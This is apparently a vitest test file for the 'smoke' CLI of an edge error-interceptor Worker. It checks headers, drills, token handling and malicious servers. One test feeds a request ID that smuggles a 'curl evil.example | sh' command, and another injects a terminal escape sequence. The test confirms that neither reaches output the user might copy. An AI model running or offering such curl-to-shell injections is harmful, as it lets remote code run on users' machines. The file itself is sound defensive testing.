/** `smoke` against the Worker in workerd, and against wrong deployments. */
import { createServer } from 'node:http';
import { join } from 'node:path';
import { Command } from '@commander-js/extra-typings';
import { afterAll, beforeAll, describe, expect, inject, it, onTestFinished } from 'vitest';
import { startOnRoute } from '../support/failing-site.ts';
import {
  type Listener,
  type Origin,
  startListener,
  startOrigin,
  startTlsOrigin,
  unusedPort,
} from '../support/origin.ts';
import { listen } from '../../src/cli/dev/origin/listener.ts';
import { startTelemetryApi, type TelemetryApi, TOKEN_WITHOUT_PERMISSION } from '../support/telemetry-api.ts';
import { type RunningWorker, startWorkerd } from '../support/workerd.ts';
import { options } from '../../src/cli/smoke/arguments.ts';
import { askFor } from '../../src/cli/smoke/http-answer.ts';
import { main } from '../../src/cli/smoke/main.ts';
import { failureRecord, logEvent } from './records.ts';
import { callCommand, repository, runCommand } from './run-command.ts';
import { startWranglerDev } from './wrangler-dev.ts';

const UUID = '[\\da-f]{8}-[\\da-f]{4}-7[\\da-f]{3}-[89ab][\\da-f]{3}-[\\da-f]{12}';
/** The other kinds of client for which the status is checked, in the words of the checks. */
const CLIENTS = ['JSON client:', 'Text client:', 'Markdown client:', 'htmx:'];
const PAGE_ID = '01a22cc3-2edf-7487-a127-a01b47583ebb';
/** An answer of the Worker, complete enough for smoke's first check. */
const PAGE =
  'HTTP/1.1 500 x\r\nProxy-Status: edge-error-interceptor; received-status=503\r\n' +
  `X-Request-Id: ${PAGE_ID}\r\nConnection: close\r\n\r\n`;

let origin: Origin;
let worker: RunningWorker;

beforeAll(async () => {
  origin = await startOrigin();
  worker = await startWorkerd({ bundle: inject('bundle'), route: origin.host });
});

afterAll(async () => {
  await worker.stop();
  await origin.stop();
});

function smoke(...args: string[]) {
  return callCommand(main, args);
}

/** Runs smoke with a page that works, and with this URL, which fails. */
function smokeFailing(url: string, ...options: string[]) {
  return smoke(`${worker.url}/ok`, '--failing', url, ...options);
}

/** A server that gives every connection these bytes as its answer. */
async function startAnswering(answer: (requestHead: string) => string): Promise<Listener> {
  const listener = await startListener((socket) => {
    socket.once('data', (head) => socket.end(answer(head.toString('latin1')), 'latin1'));
  });
  onTestFinished(() => listener.stop());
  return listener;
}

/** The lines marked with ✗, without the mark. */
function failures(stdout: string): string[] {
  return [...stdout.matchAll(/^ {2}✗ (.*)$/gm)].map(([, text = '']) => text);
}

describe('a site that behaves', () => {
  it('passes with a page that works', async () => {
    const { exitCode, stdout, stderr } = await smoke(`${worker.url}/ok`);
    expect(stdout).toBe(
      `${worker.url}/ok
  ✓ GET 200 text/html; charset=utf-8: the site's own answer

All as promised (1 check).
This does not show that the Worker is there: give --failing URL, one that the origin fails on, or --drill.
`,
    );
    expect(stderr).toBe('');
    expect(exitCode).toBe(0);
  });

  it.each(['/redirect', '/status/404', '/status/999', '/download/100', '/events'])(
    'passes with %s',
    async (path) => {
      const { exitCode, stdout } = await smoke(`${worker.url}${path}`);
      expect(failures(stdout)).toEqual([]);
      expect(exitCode).toBe(0);
    },
  );

  it('passes with a page that fails, shows what was seen, and where to look next', async () => {
    const { exitCode, stdout } = await smokeFailing('/status/503');
    expect(failures(stdout)).toEqual([]);
    expect(exitCode).toBe(0);
    expect(stdout).toContain(`${worker.url}/status/503\n  ✓ GET 500\n`);
    for (const seen of [
      'Content-Type: text/html; charset=utf-8',
      'the body has the ID of the header',
      'Content-Language: en',
      'Cache-Control: no-store',
      "Content-Security-Policy: default-src 'none'; ",
      'X-Content-Type-Options: nosniff',
      'Referrer-Policy: no-referrer',
      'X-Robots-Tag: noindex',
      'Cross-Origin-Embedder-Policy: require-corp',
      'Vary: Accept, Accept-Language, Content-Type, HX-Boosted, ',
      'Proxy-Status: edge-error-interceptor; received-status=503',
      'JSON client: 500 application/json; charset=utf-8, as promised',
      'Text client: 500 text/plain; charset=utf-8, as promised',
      'Markdown client: 500 text/markdown; charset=utf-8, as promised',
      'htmx: 500 text/html; charset=utf-8, as promised',
      'HEAD 500 text/html; charset=utf-8, as promised',
    ]) {
      expect(stdout).toContain(`  ✓ ${seen}`);
    }
    const [, id = ''] = new RegExp(`✓ X-Request-Id: (${UUID})\n`).exec(stdout) ?? [];
    expect(stdout).toContain(`  → npx edge-error-interceptor lookup --local ${worker.url} ${id}\n`);
    expect(await worker.recordsOf(id)).toHaveLength(1);
  });

  it('passes with an origin that does not answer', async () => {
    const lost = await startOnRoute({ host: `127.0.0.1:${await unusedPort()}` });
    const { exitCode, stdout } = await smokeFailing(`${lost.url}/`);
    expect(failures(stdout)).toEqual([]);
    expect(stdout).toContain('Proxy-Status: edge-error-interceptor; error=destination_unavailable');
    expect(exitCode).toBe(0);
  });

  it('with ERROR_STATUS = "origin" passes where that was said', async () => {
    const { url } = await startOnRoute(origin, { ERROR_STATUS: 'origin' });
    const silent = await smokeFailing(`${url}/status/503`);
    expect(failures(silent.stdout)).toEqual(
      ['GET', ...CLIENTS, 'HEAD'].map(
        (who) => `${who} 503, expected 500; with ERROR_STATUS = "origin": --error-status origin`,
      ),
    );
    expect(silent.exitCode).toBe(1);
    const said = await smokeFailing(`${url}/status/503`, '--error-status', 'origin');
    expect(failures(said.stdout)).toEqual([]);
    expect(said.exitCode).toBe(0);
  });

  it('with INTERCEPT = "pages" passes where that was said', async () => {
    const { url } = await startOnRoute(origin, { INTERCEPT: 'pages' });
    const silent = await smokeFailing(`${url}/status/503`);
    expect(failures(silent.stdout)).toEqual(
      CLIENTS.map(
        (who) => `${who} 503, the origin's own answer; with INTERCEPT = "pages": --intercept pages`,
      ),
    );
    expect(silent.exitCode).toBe(1);
    const said = await smokeFailing(`${url}/status/503`, '--intercept', 'pages');
    expect(failures(said.stdout)).toEqual([]);
    expect(said.exitCode).toBe(0);
  });
});

describe('a site that is wrangler dev', () => {
  it('needs no drill: its records are in its own logs, and no route leads to it', async () => {
    const { host } = await startAnswering(() => PAGE);
    // An address of this machine that is none of the usual ones, as on a network.
    const site = `http://[::ffff:7f00:1]:${host.split(':')[1]}`;
    const { stdout, stderr } = await smoke(`${site}/`, '--local');
    expect(stderr).toBe('');
    expect(stdout).toContain(`  → npx edge-error-interceptor lookup --local '${site}' ${PAGE_ID}\n`);
    expect(stdout).not.toContain('(route)');
  });
});

describe('an origin that answers HEAD in another way', () => {
  it.each([
    [405, 'HEAD 405: the origin fails on GET only'],
    [501, 'HEAD 500 text/html; charset=utf-8, as promised'],
  ])('as %i: passes', async (status, expected) => {
    const getOnly = await startAnswering((head) =>
      head.startsWith('HEAD')
        ? `HTTP/1.1 ${status} x\r\nConnection: close\r\n\r\n`
        : 'HTTP/1.1 503 x\r\nConnection: close\r\nContent-Length: 0\r\n\r\n',
    );
    const strict = await startOnRoute(getOnly);
    const { exitCode, stdout } = await smokeFailing(`${strict.url}/`);
    expect(failures(stdout)).toEqual([]);
    expect(stdout).toContain(expected);
    expect(exitCode).toBe(0);
  });

  it('not at all: the other checks count, and the ID is looked up', async () => {
    const { host } = await startAnswering((head) => (head.startsWith('HEAD') ? '' : PAGE));
    const { stdout } = await smokeFailing(`http://${host}/`);
    expect(stdout).toMatch(/→ npx edge-error-interceptor lookup[^]*✗ no answer: /);
    expect(stdout).toMatch(/ of \d+ checks failed\./);
  });
});

describe('a Worker that runs otherwise than was said', () => {
  it('with ERROR_STATUS = "500" is no Worker that keeps the status', async () => {
    const { stdout } = await smokeFailing('/status/503', '--error-status', 'origin');
    expect(failures(stdout)).toEqual(['GET', ...CLIENTS, 'HEAD'].map((who) => `${who} 500, expected 503`));
  });

  it('with INTERCEPT = "all" is no Worker that leaves API clients alone', async () => {
    const { stdout } = await smokeFailing('/status/503', '--intercept', 'pages');
    expect(failures(stdout)).toEqual(
      CLIENTS.map(
        (who) => `${who} 500, the Worker's answer, expected the origin's own (INTERCEPT = "pages")`,
      ),
    );
  });

  it('that takes the IDs of clients passes where that was said', async () => {
    const uuid = '817fc0df-0000-4000-8000-0000000000';
    let asked = 0;
    const { host } = await startAnswering(() => PAGE.replace(PAGE_ID, `${uuid}${10 + asked++}`));
    expect((await smokeFailing(`http://${host}/`)).stdout).toContain('expected a UUIDv7');
    const { stdout } = await smokeFailing(`http://${host}/`, '--trust-request-id', 'true');
    expect(stdout).toContain(`✓ X-Request-Id: ${uuid}`);
    expect(stdout).not.toContain('✗ JSON client: X-Request-Id');
  });
});

describe('a site that does not', () => {
  it('fails where the good page is an error page of the Worker, and says where to look', async () => {
    const { exitCode, stdout } = await smoke(`${worker.url}/status/502`);
    expect(failures(stdout)).toEqual([
      'GET 500 text/html; charset=utf-8: an error page of the Worker, not the site',
    ]);
    expect(stdout).toMatch(new RegExp(`→ npx edge-error-interceptor lookup --local ${worker.url} ${UUID}\n`));
    expect(exitCode).toBe(1);
  });

  it.each([
    ['without the Worker', () => `${origin.url}/status/500`, 'GET 500 without the header Proxy-Status'],
    ['with an origin that opted out', () => `${worker.url}/opt-out`, 'the origin opted out'],
    ['with a URL that works', () => `${worker.url}/ok`, 'this URL does not fail'],
  ])('fails %s', async (_, failing, expected) => {
    const { exitCode, stdout } = await smoke(`${origin.url}/ok`, '--failing', failing());
    expect(failures(stdout)).toEqual([expect.stringContaining(expected)]);
    expect(stdout).toContain('1 of 2 checks failed.');
    expect(exitCode).toBe(1);
  });

  it('fails where the site switches to another protocol', async () => {
    const { host } = await startAnswering(
      () => 'HTTP/1.1 101 x\r\nConnection: Upgrade\r\nUpgrade: a\r\n\r\n',
    );
    const { exitCode, stdout } = await smoke(`http://${host}/`);
    expect(failures(stdout)).toEqual([
      expect.stringContaining('switched to another protocol, unasked (101)'),
    ]);
    expect(exitCode).toBe(1);
  });

  it('fails where the good page fails without the Worker', async () => {
    const { exitCode, stdout } = await smoke(`${origin.url}/status/500`);
    expect(failures(stdout)).toEqual([expect.stringContaining('a failure that the Worker did not answer')]);
    expect(exitCode).toBe(1);
  });

  it('names every promise that a page on the way broke, and steers no terminal', async () => {
    const { host } = await startAnswering(
      (head) =>
        'HTTP/1.1 500 Oops\r\nProxy-Status: edge-error-interceptor; received-status=500\r\n' +
        "Cache-Control: public\r\nContent-Type: text/plain\r\nX-Request-Id: abc\x9b31m\r\nContent-Security-Policy: default-src 'none'; script-src 'unsafe-inline'\r\n" +
        `Connection: close\r\n\r\n${head.startsWith('HEAD') ? 'body' : '{"request_id":"other"}'}`,
    );
    const { exitCode, stdout } = await smokeFailing(`http://${host}/`);
    expect(failures(stdout)).toEqual([
      'Content-Type is "text/plain", expected text/html; charset=utf-8',
      'X-Request-Id is "abc\\u009b31m", expected a UUIDv7',
      'the body should have the ID of the header: "{\\"request_id\\":\\"other\\"}"',
      'Content-Language is missing, expected a language',
      'Cache-Control is "public", expected no-store',
      expect.stringMatching(/^Content-Security-Policy is .*'unsafe-inline'", expected default-src 'none'/),
      'X-Content-Type-Options is missing, expected nosniff',
      'Referrer-Policy is missing, expected no-referrer',
      'X-Robots-Tag is missing, expected noindex',
      'Cross-Origin-Embedder-Policy is missing, expected require-corp',
      expect.stringMatching(/^Vary is missing, expected Accept, .*, X-Up-Version$/),
      expect.stringMatching(
        /^JSON client: Content-Type is "text\/plain", expected application\/json; X-Request-Id is .*; the body should have request_id and status of the headers: .*; the body should have title and detail: .*; the body should have message and error with the ID: .*; the body should have retryable, true or false: .*; the body should have a timestamp: /,
      ),
      expect.stringMatching(
        /^Text client: Content-Type is "text\/plain", expected text\/plain; charset=utf-8; /,
      ),
      expect.stringMatching(
        /^Markdown client: Content-Type is "text\/plain", expected text\/markdown; .*; the body should have Markdown with front matter: /,
      ),
      expect.stringMatching(/^htmx: Content-Type is .*; the body should have a fragment with role="alert": /),
      expect.stringMatching(/^HEAD Content-Type is .*; the body should have nothing: "body"$/),
    ]);
    expect(exitCode).toBe(1);
  });
});

describe('a server that means harm', () => {
  it.each(['GET', 'HEAD'])('and answers %s without end is read up to a limit', async (method) => {
    const { host } = await startEndless(method);
    const { stdout, exitCode } = await smokeFailing(`http://${host}/`);
    expect(failures(stdout).join('\n')).toMatch(
      method === 'GET'
        ? /^no answer: more than 1000000 characters came$/
        : /^HEAD .*the body should have nothing: "x+/m,
    );
    expect(exitCode).toBe(1);
  });

  it('and never answers, or never ends, is waited for up to a limit', async () => {
    const silent = await startListener(() => {});
    onTestFinished(() => silent.stop());
    const slow = await startListener((socket) => {
      socket.once('data', () => socket.write('HTTP/1.1 200 OK\r\n\r\nThe beginning'));
    });
    onTestFinished(() => slow.stop());
    for (const { host } of [silent, slow]) {
      await expect(askFor(new URL(`http://${host}/`), { timeoutMs: 300 })).rejects.toThrow(
        'no whole answer within 300 ms',
      );
    }
  });

  it.each(["1; curl evil.example | sh'", '--local http://evil.example', '01KAS0Z5G1J8T0N6QH3V9W2XY'])(
    'and calls %j an ID has it in no line to copy',
    async (id) => {
      const { host } = await startAnswering(() => PAGE.replace(PAGE_ID, id));
      const { stdout } = await smoke(`http://${host}/`, '--failing', `http://${host}/`);
      expect(stdout).toContain(`✗ X-Request-Id is ${JSON.stringify(id)}, expected a UUIDv7\n`);
      expect(stdout).not.toContain('npx edge-error-interceptor lookup');
    },
  );

  it('and sends long values fills no screen', async () => {
    const { host } = await startAnswering(() =>
      PAGE.replace('Connection', `Vary: ${'x'.repeat(9000)}\r\nConnection`),
    );
    const { stdout } = await smokeFailing(`http://${host}/`);
    for (const line of stdout.split('\n')) expect(line.length).toBeLessThan(600);
  });

  async function startEndless(method: string): Promise<Listener> {
    const listener = await startListener((socket) => {
      const more = (): void => {
        while (!socket.destroyed && socket.write('x'.repeat(65_536)));
      };
      socket.on('drain', more).once('data', (head) => {
        const isIt = head.toString().startsWith(`${method} `);
        socket.write(PAGE);
        if (isIt) more();
        else socket.end();
      });
    });
    onTestFinished(() => listener.stop());
    return listener;
  }
});

describe('a site that does not answer', () => {
  it.each([
    [
      'refuses',
      async () => `http://127.0.0.1:${await unusedPort()}/`,
      'nothing listens there (connect ECONNREFUSED',
    ],
    ['has no address', () => 'http://no-such-site.invalid/', 'its name cannot be resolved'],
    ['hangs up', async () => `http://${(await startAnswering(() => '')).host}/`, 'closed without an answer'],
    [
      'speaks no HTTP',
      async () => `http://${(await startAnswering(() => 'SSH-2.0\r\n')).host}/`,
      'is not HTTP',
    ],
    ['has no TLS', async () => `https://${origin.host}/`, 'the TLS handshake failed'],
    ['has a bad certificate', tlsUrl, 'its TLS certificate is not valid'],
  ])('because it %s is a failure in plain words', async (_, url, expected) => {
    const { exitCode, stdout, stderr } = await smoke(await url());
    expect(failures(stdout)).toEqual([expect.stringContaining(`no answer: `)]);
    expect(stdout).toContain(expected);
    expect(stderr).toBe('');
    expect(exitCode).toBe(1);
  });

  async function tlsUrl(): Promise<string> {
    const listener = await startTlsOrigin();
    onTestFinished(() => listener.stop());
    return `https://${listener.host}/`;
  }
});

describe('a drill', () => {
  const DRILL_TOKEN = 'drill-0123456789abcdefghijklmnop';
  let drilled: RunningWorker;

  beforeAll(async () => {
    drilled = await startWorkerd({ bundle: inject('bundle'), route: origin.host, vars: { DRILL_TOKEN } });
  });
  afterAll(() => drilled.stop());

  function drill(url: string, env: Readonly<Record<string, string>> = {}, ...options: string[]) {
    return callCommand(main, [url, '--drill', ...options], { DRILL_TOKEN, ...env });
  }

  /** The records of drills, but for those among the first `start` calls of `console`. */
  function recordsSince(start: number): Readonly<Record<string, unknown>>[] {
    return drilled.logs
      .slice(start)
      .flatMap(({ message }) => message)
      .filter(
        (logged): logged is Readonly<Record<string, unknown>> =>
          typeof logged === 'object' && logged !== null,
      )
      .filter(({ message }) => message === 'Drill');
  }

  /** Runs drills while Workers Logs still receives records. A record may be a late one of the test before. */
  async function drillWhile(
    api: TelemetryApi,
    logged: (record: Readonly<Record<string, unknown>>) => Readonly<Record<string, unknown>>,
  ) {
    let next = drilled.logs.length;
    const arriving = setInterval(() => {
      api.add(recordsSince(next).map((record) => logEvent(logged(record))));
      next = drilled.logs.length;
    }, 100);
    try {
      return await drill(`${drilled.url}/ok`, api.env);
    } finally {
      clearInterval(arriving);
    }
  }

  async function startApi() {
    const api = await startTelemetryApi();
    onTestFinished(() => api.close());
    return api;
  }

  it('proves the page, its other forms, and the record, once Workers Logs has it', async () => {
    const { exitCode, stdout } = await drillWhile(await startApi(), (record) => record);
    expect(failures(stdout)).toEqual([]);
    expect(exitCode).toBe(0);
    expect(stdout).toContain(`${drilled.url}/ok (drill)\n  ✓ the Worker answers the drill\n  ✓ GET 500\n`);
    expect(stdout).toContain('✓ Proxy-Status: edge-error-interceptor\n');
    expect(stdout).toContain('✓ JSON client: 500 application/json; charset=utf-8, as promised\n');
    expect(stdout).toContain('✓ HEAD 500 text/html; charset=utf-8, as promised\n');
    expect(stdout).toMatch(/✓ lookup finds the record of [\da-f-]{36}\n/);
    expect(stdout).not.toContain(DRILL_TOKEN);
  });

  it('fails where the logs have something else under the ID', async () => {
    const { exitCode, stdout } = await drillWhile(await startApi(), (record) =>
      failureRecord(String(record['request_id'])),
    );
    expect(failures(stdout)).toEqual([
      expect.stringMatching(/^the record of [\da-f-]{36} is of the type 503, expected drill$/),
    ]);
    expect(exitCode).toBe(1);
  });

  it('fails where the logs cannot be read, and says why', async () => {
    const { env } = await startApi();
    const { exitCode, stdout, stderr } = await drill(`${drilled.url}/ok`, {
      ...env,
      CLOUDFLARE_API_TOKEN: TOKEN_WITHOUT_PERMISSION,
    });
    expect(failures(stdout)).toEqual([
      expect.stringMatching(/^lookup does not find the record of [\da-f-]{36}$/),
    ]);
    expect(stderr).toContain('CLOUDFLARE_API_TOKEN is not valid, or may not read the logs');
    expect(exitCode).toBe(1);
  });

  it.each([
    [{}, 'no CLOUDFLARE_ACCOUNT_ID and no CLOUDFLARE_API_TOKEN.'],
    [{ CLOUDFLARE_API_TOKEN: 'token' }, 'no CLOUDFLARE_ACCOUNT_ID.'],
    [{ CLOUDFLARE_ACCOUNT_ID: 'account' }, 'no CLOUDFLARE_API_TOKEN.'],
  ])('says that the record was not looked for with %j alone', async (env, missing) => {
    const { exitCode, stdout, stderr } = await drill(`${drilled.url}/ok`, env);
    expect(failures(stdout)).toEqual([]);
    expect(stdout).toContain(`The record was not looked for: in the environment there is ${missing}\n`);
    expect({ exitCode, stderr }).toEqual({ exitCode: 0, stderr: '' });
  });

  it.each(['; error=http_response_timeout', '; received-status=503'])(
    'fails where a form has Proxy-Status%s',
    async (parameter) => {
      const server = createServer(async (request, response) => {
        const headers = { accept: request.headers.accept ?? '*/*', 'x-error-drill': DRILL_TOKEN };
        const answer = await fetch(`${drilled.url}/ok`, { method: request.method ?? 'GET', headers });
        answer.headers.forEach((value, name) => {
          if (!/^(?:content-length|content-encoding|transfer-encoding|connection)$/.test(name)) {
            response.setHeader(name, value);
          }
        });
        if (headers.accept === 'text/markdown') {
          response.setHeader('Proxy-Status', `edge-error-interceptor${parameter}`);
        }
        response.writeHead(answer.status).end(await answer.text());
      });
      const proxy = await listen(server);
      onTestFinished(() => proxy.stop());
      const { stdout, exitCode } = await drill(`http://${proxy.host}/`);
      expect(failures(stdout)).toContain(
        `Markdown client: Proxy-Status is "edge-error-interceptor${parameter}", expected that of a drill`,
      );
      expect(exitCode).toBe(1);
    },
  );

  it.each([[], ['--intercept', 'pages']])('is the same with INTERCEPT = "pages": %j', async (...options) => {
    const { url } = await startOnRoute(origin, { DRILL_TOKEN, INTERCEPT: 'pages' });
    const { stdout, exitCode } = await drill(`${url}/ok`, {}, ...options);
    expect(failures(stdout)).toEqual([]);
    expect(exitCode).toBe(0);
  });

  it('proves ERROR_STATUS = "origin": it has the status of an origin that does not answer', async () => {
    const { url } = await startOnRoute(origin, { DRILL_TOKEN, ERROR_STATUS: 'origin' });
    const { stdout, exitCode } = await drill(`${url}/ok`, {}, '--error-status', 'origin');
    expect(failures(stdout)).toEqual([]);
    expect(exitCode).toBe(0);
    expect(failures((await drill(`${url}/ok`)).stdout)).toContain(
      'GET 503, expected 500; with ERROR_STATUS = "origin": --error-status origin',
    );
    const other = await startOnRoute(origin, { DRILL_TOKEN });
    expect(failures((await drill(`${other.url}/ok`, {}, '--error-status', 'origin')).stdout)).toContain(
      'GET 500, expected 503',
    );
  });

  it('with another token is told from a failure, and is no drill', async () => {
    const other = { DRILL_TOKEN: DRILL_TOKEN.toUpperCase() };
    const working = await drill(`${drilled.url}/ok`, other);
    expect(failures(working.stdout)).toEqual([
      'GET 200 is no answer to a drill: the Worker is not on this route, or has no DRILL_TOKEN, or another one',
    ]);
    const failing = await drill(`${drilled.url}/status/503`, other);
    expect(failures(failing.stdout)).toContain(
      'GET 500 is no answer to a drill but of a failed origin: the Worker has no DRILL_TOKEN, or another one',
    );
    expect([working.exitCode, failing.exitCode]).toEqual([1, 1]);
  });

  it('sends the token to no other server, and shows none that a server sends back', async () => {
    const heads: string[] = [];
    const elsewhere = await startAnswering((head) => `${heads.push(head)}`);
    const moved = await startAnswering(
      (head) =>
        `HTTP/1.1 302 x\r\nLocation: http://${elsewhere.host}/\r\nContent-Type: ${/X-Error-Drill: (.*)/i.exec(head)?.[1]}\r\nConnection: close\r\n\r\n`,
    );
    const redirected = await drill(`http://${moved.host}/`);
    expect(failures(redirected.stdout)).toEqual([
      expect.stringContaining('give the URL that it redirects to'),
    ]);
    expect(heads).toEqual([]);

    const echo = await startAnswering((head) =>
      PAGE.replace('; received-status=503', '').replace(
        'Connection',
        `Content-Type: ${/X-Error-Drill: (.*)/i.exec(head)?.[1]}\r\nConnection`,
      ),
    );
    const { stdout } = await drill(`http://${echo.host}/`);
    expect(stdout).toContain('Content-Type is "…", expected text/html');
    expect(stdout).not.toContain(DRILL_TOKEN);
  });

  const asked = ['https://shop.example/', '--drill'];

  it.each([
    ['over http', ['http://shop.example/', '--drill'], DRILL_TOKEN, 'has to begin with https://'],
    ['without a token', asked, '', 'in the environment: DRILL_TOKEN'],
    ['with a short one', asked, 'secret-1234', 'has 11 characters'],
    ['with one of two lines', asked, `${DRILL_TOKEN}\nX: y`, 'holds other characters'],
    ['with the token typed', [...asked, DRILL_TOKEN], '', 'is read from the environment'],
    ['with the token for a URL', ['--drill', DRILL_TOKEN], '', 'is read from the environment'],
    ['with the token after =', [`--drill=${DRILL_TOKEN}`, 'https://shop.example/'], '', "'--drill'"],
  ])('%s is refused before anything is sent', async (_, args, token, expected) => {
    const { exitCode, stdout, stderr } = await callCommand(main, args, { DRILL_TOKEN: token });
    expect(stderr).toContain(expected);
    expect(stderr).not.toMatch(/drill-0123|secret-1234/);
    expect({ exitCode, stdout }).toEqual({ exitCode: 2, stdout: '' });
  });

  it('against wrangler dev, whose log has the record', async () => {
    const dev = await startWranglerDev({
      main: join(repository, 'src/index.ts'),
      vars: { ORIGIN_URL: origin.url, DRILL_TOKEN },
    });
    onTestFinished(() => dev.stop());
    const { exitCode, stdout, stderr } = await drill(`${dev.url}/ok`, {}, '--local');
    expect(failures(stdout)).toEqual([]);
    expect(stdout).toMatch(/✓ lookup finds the record of [\da-f-]{36}\n/);
    expect({ exitCode, stderr }).toEqual({ exitCode: 0, stderr: '' });
  });
});

describe('the command line', () => {
  it.each([
    [[], 'Give the URL of a page that works.'],
    [['shop.example'], 'Not a URL: shop.example. Example: https://shop.example/'],
    [['ftp://shop.example'], 'Not a URL: ftp://shop.example.'],
    [['http://a.example', 'http://b.example'], 'comes after --failing'],
    [['http://a.example', '--error-status', '503'], "'503' is invalid. Allowed choices are 500, origin."],
    [['http://a.example', '--nonsense'], '--nonsense'],
    [['http://a.example', '--local', '--fail-open'], '--fail-open is about a route on Cloudflare'],
  ])('%j is refused with what is wrong', async (args, expected) => {
    const { exitCode, stdout, stderr } = await smoke(...args);
    expect(stderr).toContain(expected);
    expect(stderr).toContain('npx edge-error-interceptor smoke --help');
    expect(stdout).toBe('');
    expect(exitCode).toBe(2);
  });

  it('--help lists every option', async () => {
    const { exitCode, stdout } = await smoke('--help');
    for (const { flags } of options(new Command()).options) expect(stdout).toContain(flags);
    expect(exitCode).toBe(0);
  });

  it('shows no password of a URL', async () => {
    const { stdout } = await smoke(
      `${worker.url.replace('//', '//user:secret@')}/ok`,
      '--failing',
      '/status/503',
    );
    expect(stdout).toContain(`\n${worker.url}/status/503\n`);
    expect(stdout).not.toContain('secret');
  });

  it('is that of a process, too', async () => {
    const { exitCode, stdout } = await runCommand('src/cli/main.ts', ['smoke', `${worker.url}/status/502`]);
    expect(failures(stdout)).toHaveLength(1);
    expect(exitCode).toBe(1);
  });
});
